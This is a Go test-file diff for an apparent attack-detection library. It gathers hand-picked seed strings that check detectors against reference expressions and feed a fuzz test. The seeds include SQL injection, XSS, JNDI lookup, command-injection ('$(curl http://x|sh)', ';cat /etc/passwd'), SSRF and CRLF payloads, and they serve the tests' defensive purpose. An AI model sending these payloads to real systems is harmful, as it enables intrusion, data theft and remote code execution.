@@ -147,6 +147,18 @@ var refChecks = []struct {
 	{checkPHPName, regexp.MustCompile(`\.(?:php|phtml)$`).MatchString, []string{".php", ".phtml", "php", ".", "x", "/", "\n"}},
 }
 
+// confirmSeeds are hand-picked fields for each check, matching and not.
+var confirmSeeds = []string{"1 union/**/select 1", "x') select a from b", "' or 'a'='a", "1 and sleep(5)", ";drop table x",
+	" and 1=1", "<svg onload=x>", "${${lower:j}ndi:ldap://x}", ";cat /etc/passwd", "u=http://127.0.0.1/", "file=http://x/?",
+	"\r\nset-cookie: x", "union#x\n#union\nselect(", "'select/**/x/**/from(", ";update/x/set",
+	"union select", "union/*!50000select*/", "union#x\nselect ", "union--\n all\tselect(", "union distinctselect ", "union\xa0select ",
+	"'select 1 from", "(select x from(", "'select\nx\nfrom ", "\" or 1 like", "') and x=", "1 or sleep(1)", "if(1,sleep(2),0)",
+	";delete from x", ";update/**/users/**/set", "; exec xp_cmdshell", "1 xor 2>1", "x and 1=1.5", "<a/onclick =x>",
+	"${${::-j}ndi:rmi://x}", "${jndi}", "$(curl http://x|sh)", "a=1|id", "name|id", "&&python3 ", "x=//[::1]/", "x=//0x7f.1/",
+	"redirect_uri=http://localhost/", "x=http://u@127.0.0.1:80", "?file=//evil/x", "&page[]=http://x", "x=http://evil/a.txt?",
+	"\r\nlocation: x", "\nhttp/1.1 200", "\n\r\n <b>", "\nx-foo :1",
+}
+
 // TestConfirmReference checks each check against its expression on
 // hand-picked fields and on random fields built from the expression's own
 // pieces, and that both answers occur often enough for the comparison to
@@ -158,6 +170,11 @@ func TestConfirmReference(t *testing.T) {
 	}
 	for _, rc := range refChecks {
 		t.Run(rc.c.name, func(t *testing.T) {
+			for _, s := range confirmSeeds {
+				if got, want := rc.c.match(s), rc.ref(s); got != want {
+					t.Errorf("%q: check %v, expression %v", s, got, want)
+				}
+			}
 			rng := rand.New(rand.NewPCG(1, uint64(len(rc.c.name))))
 			yes := 0
 			for i := range n {
@@ -183,9 +200,7 @@ func TestConfirmReference(t *testing.T) {
 
 // FuzzConfirm checks that every check agrees with its expression.
 func FuzzConfirm(f *testing.F) {
-	for _, s := range []string{"1 union/**/select 1", "x') select a from b", "' or 'a'='a", "1 and sleep(5)", ";drop table x",
-		" and 1=1", "<svg onload=x>", "${${lower:j}ndi:ldap://x}", ";cat /etc/passwd", "u=http://127.0.0.1/", "file=http://x/?",
-		"\r\nset-cookie: x", "union#x\n#union\nselect(", "'select/**/x/**/from(", ";update/x/set"} {
+	for _, s := range confirmSeeds {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, s string) {
